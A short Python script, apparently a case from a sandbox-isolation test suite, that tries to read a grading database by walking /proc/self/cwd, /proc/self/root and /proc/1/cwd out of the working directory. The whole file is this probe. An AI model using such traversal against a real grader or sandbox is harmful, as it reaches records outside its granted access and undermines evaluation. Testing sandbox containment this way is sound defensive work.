"""The gradebook through /proc: climbing from the kernel's cwd, through its root, through PID 1's cwd."""
from prelude import TARGETS, attack, first


def read_gradebook_proc_self_cwd():
    paths = ["/proc/self/cwd/" + "../" * n + "gradebook.db" for n in range(8)]
    paths += ["/proc/self/root" + p for p in TARGETS["gradebooks"]]
    paths += ["/proc/1/cwd" + p for p in TARGETS["gradebooks"]]
    return first(paths, lambda path: open(path, "rb").read(16))


attack(read_gradebook_proc_self_cwd)
